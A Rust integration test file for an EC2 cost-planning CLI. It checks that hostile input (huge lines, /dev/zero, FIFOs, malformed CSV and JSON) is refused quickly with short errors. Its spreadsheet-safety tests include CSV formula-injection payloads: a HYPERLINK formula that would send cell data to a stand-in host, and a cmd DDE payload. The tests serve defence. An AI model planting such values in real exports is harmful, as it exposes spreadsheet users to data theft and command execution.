//! Hostile and odd input through the binary (issue 21): each case ends in one short sentence
//! and its exit code within seconds, and streams (standard input, `/dev/stdin`, FIFOs) are
//! read once.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests fail loudly by design

mod common;
use common::write;

use proptest::prelude::*;
use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// What a run printed and returned.
struct Ran {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    took: Duration,
}

/// Runs the binary, feeding `stdin`; killed after `limit` (the guard against a hang).
fn run(args: &[&str], stdin: Option<Vec<u8>>, limit: Duration) -> Ran {
    let started = Instant::now();
    let mut child = Command::new(env!("CARGO_BIN_EXE_ec2plan"))
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let feeder = stdin.map(|bytes| {
        let mut pipe = child.stdin.take().unwrap();
        std::thread::spawn(move || {
            let _ = pipe.write_all(&bytes);
        })
    });
    let mut out = child.stdout.take().unwrap();
    let mut err = child.stderr.take().unwrap();
    let reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = std::io::Read::read_to_string(&mut out, &mut text);
        text
    });
    let err_reader = std::thread::spawn(move || {
        let mut text = String::new();
        let _ = std::io::Read::read_to_string(&mut err, &mut text);
        text
    });
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if started.elapsed() > limit {
            child.kill().unwrap();
            panic!("ec2plan {args:?} still ran after {limit:?}");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    if let Some(feeder) = feeder {
        let _ = feeder.join();
    }
    Ran {
        code: status.code(),
        stdout: reader.join().unwrap(),
        stderr: err_reader.join().unwrap(),
        took: started.elapsed(),
    }
}

const LIMIT: Duration = Duration::from_secs(30);
const SCENARIO: &str = "scenarios/web-fleet.csv";

/// One line, short, with exit 3.
fn refused(ran: &Ran, expected: &str) {
    assert_eq!(
        ran.code,
        Some(3),
        "stderr: {}",
        &ran.stderr[..ran.stderr.len().min(500)]
    );
    assert_eq!(ran.stderr.lines().count(), 1, "{}", ran.stderr);
    assert!(
        ran.stderr.len() < 400,
        "{} bytes of stderr",
        ran.stderr.len()
    );
    assert!(ran.stderr.contains(expected), "{}", ran.stderr);
    assert!(ran.stdout.is_empty());
}

#[test]
fn dev_zero_is_refused_at_its_first_line() {
    let ran = run(&["simulate", "/dev/zero"], None, LIMIT);
    refused(&ran, "error: /dev/zero:1: this line is longer than 1 MiB");
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
}

#[test]
fn a_file_of_nul_bytes_is_refused_fast() {
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "nul.csv", vec![0u8; 20 << 20]);
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(&ran, "nul.csv:1: this line is longer than 1 MiB");
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
}

#[test]
fn a_long_line_is_refused_at_its_number() {
    let dir = tempfile::tempdir().unwrap();
    let mut text =
        b"time,instance,action,instance_type\n2026-03-02T00:00:00Z,a,launch,m5.large\n".to_vec();
    text.extend(std::iter::repeat_n(b'a', 2 << 20));
    text.extend(b"\n2026-03-03T00:00:00Z,a,terminate,\n");
    let path = write(dir.path(), "long.csv", &text);
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(
        &ran,
        "long.csv:3: this line is longer than 1 MiB (1,048,576 bytes)",
    );
}

#[test]
fn an_8_mb_unknown_type_returns_fast_with_a_short_message() {
    let dir = tempfile::tempdir().unwrap();
    let huge = "x".repeat(8 << 20);
    let text =
        format!("time,instance,action,instance_type\n2026-03-02T00:00:00Z,a,launch,{huge}\n");
    let path = write(dir.path(), "huge.csv", text.as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(&ran, "huge.csv:2: this line is longer than 1 MiB");
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
    // Under the line limit: the value is quoted in part, and no "did you mean" is searched.
    let big = "x".repeat(1_000_000);
    let text = format!("time,instance,action,instance_type\n2026-03-02T00:00:00Z,a,launch,{big}\n");
    let path = write(dir.path(), "big.csv", text.as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    let shown = format!(
        "unknown instance type \"{}…\" (1000000 bytes)",
        "x".repeat(40)
    );
    refused(&ran, &shown);
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
}

#[test]
fn a_huge_ebs_gb_is_quoted_in_part() {
    let dir = tempfile::tempdir().unwrap();
    let digits = "9".repeat(500_000);
    let text = format!(
        "time,instance,action,instance_type,ebs_gb\n2026-03-02T00:00:00Z,a,launch,m5.large,{digits}\n"
    );
    let path = write(dir.path(), "ebs.csv", text.as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(&ran, "is far larger than any EBS volume");
}

fn csv_summary(args: &[&str], stdin: Option<Vec<u8>>) -> String {
    let mut all = args.to_vec();
    all.extend(["--format", "csv"]);
    let ran = run(&all, stdin, LIMIT);
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    ran.stdout
}

#[test]
fn standard_input_is_read_with_a_dash_and_through_dev_stdin() {
    let expected = csv_summary(&["simulate", SCENARIO], None);
    let bytes = std::fs::read(SCENARIO).unwrap();
    assert_eq!(
        csv_summary(&["simulate", "-"], Some(bytes.clone())),
        expected
    );
    assert_eq!(
        csv_summary(&["simulate", "/dev/stdin"], Some(bytes.clone())),
        expected
    );
    // A schedule through standard input, and a stream replayed by the trials.
    let schedule = std::fs::read("scenarios/web-service-schedule.csv").unwrap();
    assert_eq!(
        csv_summary(&["simulate", "-"], Some(schedule)),
        csv_summary(&["simulate", "scenarios/web-service-schedule.csv"], None)
    );
    let spot = std::fs::read("scenarios/spot-etl.csv").unwrap();
    let trials = [
        "--strategy",
        "spot",
        "--interruptions",
        "advisor",
        "--trials",
        "3",
    ];
    let mut from_stdin = vec!["simulate", "-"];
    from_stdin.extend(trials);
    let mut from_file = vec!["simulate", "scenarios/spot-etl.csv"];
    from_file.extend(trials);
    assert_eq!(
        csv_summary(&from_stdin, Some(spot)),
        csv_summary(&from_file, None)
    );
}

#[test]
fn a_fifo_is_read_once() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("f.csv");
    let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
    assert!(made.success());
    let bytes = std::fs::read(SCENARIO).unwrap();
    let path = fifo.clone();
    let writer = std::thread::spawn(move || {
        let mut file = std::fs::OpenOptions::new().write(true).open(path).unwrap();
        file.write_all(&bytes).unwrap();
    });
    let got = csv_summary(&["simulate", &fifo.display().to_string()], None);
    writer.join().unwrap();
    assert_eq!(got, csv_summary(&["simulate", SCENARIO], None));
}

#[test]
fn an_unterminated_quote_is_refused_where_it_opened() {
    let dir = tempfile::tempdir().unwrap();
    let text = "time,instance,action,instance_type,region,group\n\
                2026-03-02T00:00:00Z,a,launch,m5.large,us-east-1,\"web\n\
                2026-03-03T00:00:00Z,a,terminate,,,\n";
    let path = write(dir.path(), "quote.csv", text.as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(
        &ran,
        "quote.csv:2: a quoted cell opened on this line runs past the end of the line",
    );
}

#[test]
fn messages_say_what_is_wrong() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "time,instance,action,instance_type\n20260302T000000Z,a,launch,m5.large\n",
            "time \"20260302T000000Z\" is in the ISO 8601 basic format",
        ),
        (
            "time,instance,action,instance_type\n2026-03-02T00:00Z,a,launch,m5.large\n",
            "time \"2026-03-02T00:00Z\" has no seconds",
        ),
        (
            "time,instance,action,instance_type,ebs_gb\n2026-03-02T00:00:00Z,a,launch,m5.large,-5\n",
            "ebs_gb -5 is negative; a volume size must be zero or more GiB",
        ),
        (
            "time,group,desired\n2026-03-02T00:00:00Z,web,1\n",
            "group web has no instance_type: give one in the instance_type column of its first row",
        ),
    ];
    for (i, (text, expected)) in cases.iter().enumerate() {
        let path = write(dir.path(), &format!("case{i}.csv"), text.as_bytes());
        let ran = run(&["simulate", &path], None, LIMIT);
        refused(&ran, expected);
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Whatever a launch row holds, an error message stays a few hundred bytes.
    #[test]
    fn no_error_message_is_long(
        cells in prop::collection::vec(
            prop_oneof![
                "[ -~]{0,20}",
                "[a-z0-9.\\-]{200,3000}",
                "-[0-9]{100,2000}",
                "[0-9]{100,2000}",
                ".{0,200}",
            ],
            9,
        ),
    ) {
        let row = cells
            .iter()
            .map(|c| format!("\"{}\"", c.replace('"', "\"\"").replace(['\n', '\r'], " ")))
            .collect::<Vec<_>>()
            .join(",");
        let csv = format!(
            "time,instance,action,instance_type,region,os,ebs_gb,ebs_type,group\n{row}\n"
        );
        if let Err(e) = common::replay_with(&csv, common::instant()) {
            let message = e.to_string();
            prop_assert!(message.len() < 400, "{} bytes: {}", message.len(), message);
        }
        // The same cells after a valid time, action and name.
        let csv = format!(
            "time,instance,action,instance_type,region,os,ebs_gb,ebs_type,group\n2026-03-02T00:00:00Z,a,launch,{}\n",
            cells[3..].iter()
                .map(|c| format!("\"{}\"", c.replace('"', "\"\"").replace(['\n', '\r'], " ")))
                .collect::<Vec<_>>()
                .join(",")
        );
        if let Err(e) = common::replay_with(&csv, common::instant()) {
            let message = e.to_string();
            prop_assert!(message.len() < 400, "{} bytes: {}", message.len(), message);
        }
    }
}

// ---------------------------------------------------------------- spreadsheet safety

/// The sentence every formula refusal ends with.
const NO_FORMULA: &str = "which a spreadsheet reads as the start of a formula; a name cannot \
                          start with =, +, -, @, a tab, a carriage return or a line feed";

/// One line, short, with `code`, and `expected` exactly after `error: `.
fn refused_exactly(ran: &Ran, code: i32, expected: &str) {
    assert_eq!(ran.code, Some(code), "stderr: {}", ran.stderr);
    assert_eq!(ran.stderr, format!("error: {expected}\n"));
    assert!(ran.stdout.is_empty());
}

#[test]
fn formula_names_are_refused_where_they_are_read() {
    let dir = tempfile::tempdir().unwrap();
    let log = |name: &str, group: &str| {
        format!(
            "time,instance,action,instance_type,group\n\
             2026-03-02T00:00:00Z,{name},launch,m5.large,{group}\n\
             2026-03-03T00:00:00Z,{name},terminate,,\n"
        )
    };
    let cases = [
        (
            log("web-1", "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"open\"\")\""),
            "2:5 (group): group \"=HYPERLINK(\\\"http://x.example/?\\\"&A1,\\\"open…\" (42 bytes) starts with '='",
        ),
        (
            log("+cmd", "web"),
            "2:2 (instance): instance name \"+cmd\" starts with '+'",
        ),
        (
            log("@SUM(A1:A9)", "web"),
            "2:2 (instance): instance name \"@SUM(A1:A9)\" starts with '@'",
        ),
        (
            log("-2+3", "web"),
            "2:2 (instance): instance name \"-2+3\" starts with '-'",
        ),
        (
            log("\tweb-1", "web"),
            "2:2 (instance): instance name \"\\tweb-1\" starts with a tab",
        ),
        (
            log("  =web", "web"),
            "2:2 (instance): instance name \"=web\" starts with '='",
        ),
    ];
    for (i, (text, expected)) in cases.iter().enumerate() {
        let path = write(dir.path(), &format!("f{i}.csv"), text.as_bytes());
        let ran = run(&["simulate", &path], None, LIMIT);
        refused_exactly(&ran, 3, &format!("{path}:{expected}, {NO_FORMULA}"));
    }
    // After a semicolon, where some locales split cells; and a control character.
    let path = write(dir.path(), "semi.csv", log("web-1", "web; =1+2").as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused_exactly(
        &ran,
        3,
        &format!(
            "{path}:2:5 (group): group \"web; =1+2\" has, after a semicolon, '=', {NO_FORMULA}"
        ),
    );
    let path = write(
        dir.path(),
        "esc.csv",
        log("web\u{1b}[31m", "web").as_bytes(),
    );
    let ran = run(&["simulate", &path], None, LIMIT);
    refused_exactly(
        &ran,
        3,
        &format!("{path}:2:2 (instance): instance name \"web\\u{{1b}}[31m\" holds the control character U+001B, which no name may hold"),
    );
    // A carriage return before a name can only be written inside quotes, and a quoted cell
    // cannot cross a line end in a scenario.
    let path = write(dir.path(), "cr.csv", log("\"\rweb\"", "web").as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused(
        &ran,
        &format!(
            "error: {path}:2: a quoted cell opened on this line runs past the end of the line"
        ),
    );
    // A schedule's group.
    let text = "time,group,desired,instance_type\n2026-03-02T00:00:00Z,@web,1,m5.large\n";
    let path = write(dir.path(), "schedule.csv", text.as_bytes());
    let ran = run(&["simulate", &path], None, LIMIT);
    refused_exactly(
        &ran,
        3,
        &format!("{path}:2:2 (group): group \"@web\" starts with '@', {NO_FORMULA}"),
    );
    // A --set group (exit 2, naming the flag).
    let ran = run(
        &["simulate", SCENARIO, "--set", "+web.instance_type=m5.large"],
        None,
        LIMIT,
    );
    refused_exactly(
        &ran,
        2,
        &format!("--set +web.instance_type=m5.large: group \"+web\" starts with '+', {NO_FORMULA}"),
    );
}

#[test]
fn formula_names_in_catalogs_and_imports_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    // A --pricing catalog file.
    let pricing = dir.path().join("pricing");
    std::fs::create_dir(&pricing).unwrap();
    let types = "instance_type,vcpu,memory_gib\nm5.large,2,8\n=cmd|' /C calc'!A0,2,8\n";
    let path = write(&pricing, "instance_types.csv", types.as_bytes());
    let ran = run(
        &[
            "simulate",
            SCENARIO,
            "--pricing",
            &pricing.display().to_string(),
        ],
        None,
        LIMIT,
    );
    refused_exactly(
        &ran,
        3,
        &format!("{path}:3:1 (instance_type): instance_type \"=cmd|' /C calc'!A0\" starts with '=', {NO_FORMULA}"),
    );
    // An offer file's Instance Type.
    let offer = std::fs::read_to_string("tests/data/offer/us-east-1.csv").unwrap();
    let hostile = offer.replacen(
        "\"AWS Region\",\"m5.large\"",
        "\"AWS Region\",\"@m5.large\"",
        1,
    );
    assert_ne!(hostile, offer);
    let path = write(dir.path(), "offer.csv", hostile.as_bytes());
    let out = dir.path().join("out").display().to_string();
    let ran = run(&["pricing", "import", &path, "--out", &out], None, LIMIT);
    refused_exactly(
        &ran,
        3,
        &format!("{path}:7:20 (Instance Type): Instance Type \"@m5.large\" starts with '@', {NO_FORMULA}"),
    );
    // A Spot history record, located at the line it opens on.
    let record = |zone: &str| {
        format!(
            "        {{\n            \"AvailabilityZone\": \"{zone}\",\n            \"InstanceType\": \"m5.large\",\n            \"ProductDescription\": \"Linux/UNIX\",\n            \"SpotPrice\": \"0.040000\",\n            \"Timestamp\": \"2026-03-01T00:00:00.000Z\"\n        }}"
        )
    };
    let json = format!(
        "{{\n    \"SpotPriceHistory\": [\n{},\n{}\n    ]\n}}\n",
        record("us-east-1a"),
        record("+us-east-1b")
    );
    let path = write(dir.path(), "spot.json", json.as_bytes());
    let ran = run(&["pricing", "import", &path, "--out", &out], None, LIMIT);
    refused_exactly(
        &ran,
        3,
        &format!("{path}:10: record 2 of SpotPriceHistory: AvailabilityZone \"+us-east-1b\" starts with '+', {NO_FORMULA}"),
    );
    assert!(!Path::new(&out).exists());
}

#[test]
fn a_scenario_path_that_starts_a_formula_is_shown_as_dot_slash() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(SCENARIO, dir.path().join("=cost.csv")).unwrap();
    let ran = Command::new(env!("CARGO_BIN_EXE_ec2plan"))
        .current_dir(dir.path())
        .args([
            "compare",
            "=cost.csv",
            "--format",
            "csv",
            "--strategy",
            "on-demand",
        ])
        .output()
        .unwrap();
    assert!(ran.status.success());
    let stdout = String::from_utf8(ran.stdout).unwrap();
    assert_eq!(
        stdout.lines().nth(1).unwrap(),
        "./=cost.csv,,on-demand,58.77,1.42,0.84,0.00,61.03,0.00,0.0"
    );
}

/// Whether a spreadsheet would read `text` as a formula: it, or a part after a semicolon,
/// starts (after spaces) with one of OWASP's characters.
fn starts_formula(text: &str) -> bool {
    text.split(';').any(|part| {
        part.trim_start_matches(' ')
            .starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
    })
}

/// Every cell of a CSV text.
fn cells(text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    reader
        .records()
        .flat_map(|record| {
            let record = record.unwrap();
            record.iter().map(str::to_string).collect::<Vec<_>>()
        })
        .collect()
}

/// No cell of `text` (a CSV output named `what`) starts a formula unless it is a number.
fn no_formula_cell(what: &str, text: &str) -> Result<(), TestCaseError> {
    for cell in cells(text) {
        if starts_formula(&cell) {
            prop_assert!(
                cell.parse::<rust_decimal::Decimal>().is_ok(),
                "{what}: the cell {cell:?} starts a formula"
            );
        }
    }
    Ok(())
}

/// A name with no spaces around it, rich in formula characters, semicolons, commas and quotes.
fn name() -> impl Strategy<Value = String> {
    // Mostly a safe first character, so most cases are accepted and their reports checked.
    let edge = prop_oneof![4 => "[a-z0-9,\"'.é€]", 1 => "[=+@;-]"];
    let last = "[a-z0-9=+@;,\"'.é€-]";
    (edge, "[a-z0-9 =+@;,\"'.é€-]{0,8}", last).prop_map(|(a, b, c)| format!("{a}{b}{c}"))
}

fn csv_line(cells: &[&str]) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    writer.write_record(cells).unwrap();
    String::from_utf8(writer.into_inner().unwrap()).unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// For any names: a name a spreadsheet would read as a formula is refused (exit 3), and
    /// otherwise no cell of any CSV file in --out, nor of the --format csv output of
    /// simulate, compare, recommend and expand, starts a formula unless it is a number, and
    /// each name is in the reports as written.
    #[test]
    fn no_csv_cell_starts_a_formula(
        names in (name(), name()).prop_filter("distinct", |(a, b)| a != b),
        groups in (name(), name()),
    ) {
        let dir = tempfile::tempdir().unwrap();
        let (n1, n2) = (names.0.as_str(), names.1.as_str());
        let (g1, g2) = (groups.0.as_str(), groups.1.as_str());
        let mut log = csv_line(&["time", "instance", "action", "instance_type", "public_ip", "group"]);
        log += &csv_line(&["2026-03-02T00:00:00Z", n1, "launch", "m5.large", "auto", g1]);
        log += &csv_line(&["2026-03-02T00:00:00Z", n2, "launch", "m5.large", "none", g2]);
        log += &csv_line(&["2026-03-20T00:00:00Z", n1, "terminate", "", "", ""]);
        let path = write(dir.path(), "names.csv", log.as_bytes());
        let out = dir.path().join("out");
        let out_text = out.display().to_string();
        let simulate = run(
            &["simulate", &path, "--out", &out_text, "--format", "csv", "--quiet"],
            None,
            LIMIT,
        );
        if [n1, n2, g1, g2].iter().any(|n| starts_formula(n)) {
            prop_assert_eq!(simulate.code, Some(3), "{}", simulate.stderr);
            prop_assert!(simulate.stderr.contains("which a spreadsheet reads as the start of a formula"), "{}", simulate.stderr);
            prop_assert!(!out.exists());
            return Ok(());
        }
        prop_assert_eq!(simulate.code, Some(0), "{}", simulate.stderr);
        no_formula_cell("simulate --format csv", &simulate.stdout)?;
        let mut files = 0;
        for entry in std::fs::read_dir(&out).unwrap() {
            let entry = entry.unwrap();
            let file = entry.file_name().to_string_lossy().into_owned();
            if file.ends_with(".csv") {
                files += 1;
                no_formula_cell(&file, &std::fs::read_to_string(entry.path()).unwrap())?;
            }
        }
        prop_assert_eq!(files, 5);
        // The names as written: groups.csv has both groups, timeline.csv both instances.
        let groups_csv = std::fs::read_to_string(out.join("groups.csv")).unwrap();
        let timeline = std::fs::read_to_string(out.join("timeline.csv")).unwrap();
        let groups_cells = cells(&groups_csv);
        let timeline_cells = cells(&timeline);
        for group in [g1, g2] {
            prop_assert!(groups_cells.iter().any(|c| c == group), "{:?} not in groups.csv", group);
        }
        for name in [n1, n2] {
            prop_assert!(timeline_cells.iter().any(|c| c == name), "{:?} not in timeline.csv", name);
        }
        for args in [
            vec!["compare", path.as_str(), "--variant", "instance_type=m5.xlarge", "--format", "csv"],
            vec!["recommend", path.as_str(), "--format", "csv"],
        ] {
            let ran = run(&args, None, LIMIT);
            prop_assert_eq!(ran.code, Some(0), "{}", ran.stderr);
            prop_assert!(ran.stdout.lines().count() > 1);
            no_formula_cell(args[0], &ran.stdout)?;
        }
        let mut schedule = csv_line(&["time", "group", "desired", "instance_type"]);
        schedule += &csv_line(&["2026-03-02T00:00:00Z", g1, "2", "m5.large"]);
        schedule += &csv_line(&["2026-03-03T00:00:00Z", g1, "0", ""]);
        let path = write(dir.path(), "schedule.csv", schedule.as_bytes());
        let expand = run(&["expand", &path], None, LIMIT);
        prop_assert_eq!(expand.code, Some(0), "{}", expand.stderr);
        no_formula_cell("expand", &expand.stdout)?;
    }
}

// ---------------------------------------------------------------- Spot history JSON limits

/// Runs the binary under GNU time for its peak resident memory in KiB (0, unchecked, where
/// /usr/bin/time is missing).
fn peak_kib(args: &[&str]) -> (Ran, u64) {
    let time = Path::new("/usr/bin/time");
    if !time.exists() {
        return (run(args, None, LIMIT), 0);
    }
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("rss").display().to_string();
    let mut all = vec!["-f", "%M", "-o", &report, env!("CARGO_BIN_EXE_ec2plan")];
    all.extend(args);
    let started = Instant::now();
    let out = Command::new(time).args(&all).output().unwrap();
    let ran = Ran {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        took: started.elapsed(),
    };
    let kib = std::fs::read_to_string(&report)
        .ok()
        .and_then(|t| t.lines().last().and_then(|l| l.trim().parse().ok()))
        .unwrap_or(0);
    (ran, kib)
}

#[test]
fn a_spot_history_of_dev_zero_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let zero = dir.path().join("zero.json");
    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
    let zero = zero.display().to_string();
    let out = dir.path().join("out").display().to_string();
    let ran = run(&["pricing", "import", &zero, "--out", &out], None, LIMIT);
    refused(
        &ran,
        &format!(
            "error: {zero}:1: not a describe-spot-price-history dump: expected value (column 1)"
        ),
    );
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
    assert!(!Path::new(&out).exists());
}

#[test]
fn a_spot_history_of_100_mb_of_nul_bytes_is_refused_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("nul.json");
    let file = std::fs::File::create(&path).unwrap();
    file.set_len(100 << 20).unwrap();
    let path = path.display().to_string();
    let out = dir.path().join("out").display().to_string();
    let (ran, kib) = peak_kib(&["pricing", "import", &path, "--out", &out]);
    refused(
        &ran,
        &format!(
            "error: {path}:1: not a describe-spot-price-history dump: expected value (column 1)"
        ),
    );
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
    assert!(kib < 64 << 10, "{kib} KiB");
}

#[test]
fn a_huge_string_in_a_spot_history_ends_after_a_mebibyte() {
    let dir = tempfile::tempdir().unwrap();
    // Minified, as one line: a zone name of 100 MB on line 1, then a pretty one on line 3.
    let mut text = b"{\"SpotPriceHistory\": [{\"AvailabilityZone\": \"".to_vec();
    text.extend(std::iter::repeat_n(b'a', 100 << 20));
    text.extend(b"\"}]}");
    let path = write(dir.path(), "huge.json", &text);
    let out = dir.path().join("out").display().to_string();
    let (ran, kib) = peak_kib(&["pricing", "import", &path, "--out", &out]);
    refused(
        &ran,
        &format!(
            "error: {path}:1: a JSON string that starts on this line is longer than 1 MiB \
             (1,048,576 bytes), the longest value ec2plan reads; is the file `aws ec2 \
             describe-spot-price-history` output?"
        ),
    );
    assert!(ran.took < Duration::from_secs(10), "{:?}", ran.took);
    assert!(kib < 64 << 10, "{kib} KiB");
    let pretty = format!(
        "{{\n  \"SpotPriceHistory\": [\n    {{\n      \"AvailabilityZone\": \"{}\"\n    }}\n  ]\n}}\n",
        "b".repeat(2 << 20)
    );
    let path = write(dir.path(), "pretty.json", pretty.as_bytes());
    let ran = run(&["pricing", "import", &path, "--out", &out], None, LIMIT);
    refused(
        &ran,
        &format!("error: {path}:4: a JSON string that starts on this line"),
    );
}

#[test]
fn a_minified_spot_history_is_read_whole() {
    // The AWS CLI's example, minified onto one line longer than the CSV line limit: JSON has
    // no line limit, only a limit on each value.
    let record = |i: usize| {
        format!(
            "{{\"AvailabilityZone\":\"us-east-1a\",\"InstanceType\":\"m5.large\",\"ProductDescription\":\"Linux/UNIX\",\"SpotPrice\":\"0.0{}\",\"Timestamp\":\"2026-01-01T{:02}:{:02}:00Z\"}}",
            1 + i % 9,
            i / 60 % 24,
            i % 60
        )
    };
    let records: Vec<String> = (0..1440).map(record).collect();
    let mut text = format!("{{\"SpotPriceHistory\":[{}]", records.join(","));
    // Padding in an ignored field takes the single line past 1 MiB.
    text.push_str(&format!(",\"NextToken\":\"{}\"}}", "t".repeat(1_000_000)));
    assert!(text.len() > 1 << 20);
    let dir = tempfile::tempdir().unwrap();
    let path = write(dir.path(), "min.json", text.as_bytes());
    let out = dir.path().join("out");
    let ran = run(
        &[
            "pricing",
            "import",
            &path,
            "--out",
            &out.display().to_string(),
        ],
        None,
        LIMIT,
    );
    assert_eq!(ran.code, Some(0), "{}", ran.stderr);
    assert!(
        ran.stdout.starts_with("kept 1440 Spot price records\n"),
        "{}",
        ran.stdout
    );
    let csv = std::fs::read_to_string(out.join("spot_prices.csv")).unwrap();
    assert_eq!(
        csv.lines().filter(|l| l.starts_with("us-east-1a,")).count(),
        1440
    );
}

/// `pricing import` looks at a file's first bytes to tell a Spot dump from an offer file;
/// through a FIFO (or a pipe) those bytes must not be lost: an offer file and a Spot dump
/// without a `.json` name each import from a FIFO to the same files as from disk
/// (before, the bytes looked at were read from a second open, and a FIFO's were lost).
#[test]
fn pricing_import_reads_a_fifo_once() {
    for source in [
        "tests/data/offer/us-east-1.csv",
        "tests/data/spot/orf-spot-prices-c6i.2xlarge-eu-west-1-2026-01-16.json",
    ] {
        let dir = tempfile::tempdir().unwrap();
        let fifo = dir.path().join("prices");
        let made = Command::new("mkfifo").arg(&fifo).status().unwrap();
        assert!(made.success());
        let bytes = std::fs::read(source).unwrap();
        let path = fifo.clone();
        let writer = std::thread::spawn(move || {
            let mut file = std::fs::OpenOptions::new().write(true).open(path).unwrap();
            file.write_all(&bytes).unwrap();
        });
        let from_fifo = dir.path().join("from-fifo");
        let ran = run(
            &[
                "pricing",
                "import",
                &fifo.display().to_string(),
                "--out",
                &from_fifo.display().to_string(),
            ],
            None,
            LIMIT,
        );
        writer.join().unwrap();
        assert_eq!(ran.code, Some(0), "{source}: {}", ran.stderr);
        let from_disk = dir.path().join("from-disk");
        let ran = run(
            &[
                "pricing",
                "import",
                source,
                "--out",
                &from_disk.display().to_string(),
            ],
            None,
            LIMIT,
        );
        assert_eq!(ran.code, Some(0), "{source}: {}", ran.stderr);
        let mut names: Vec<_> = std::fs::read_dir(&from_disk)
            .unwrap()
            .map(|e| e.unwrap().file_name())
            .collect();
        names.sort();
        assert!(!names.is_empty());
        // The files name their source; the FIFO's name stands where the file's does.
        let fifo_name = fifo.display().to_string();
        for name in names {
            let got = std::fs::read_to_string(from_fifo.join(&name)).unwrap();
            assert_eq!(
                got.replace(&fifo_name, source),
                std::fs::read_to_string(from_disk.join(&name)).unwrap(),
                "{source}: {name:?}"
            );
        }
    }
}
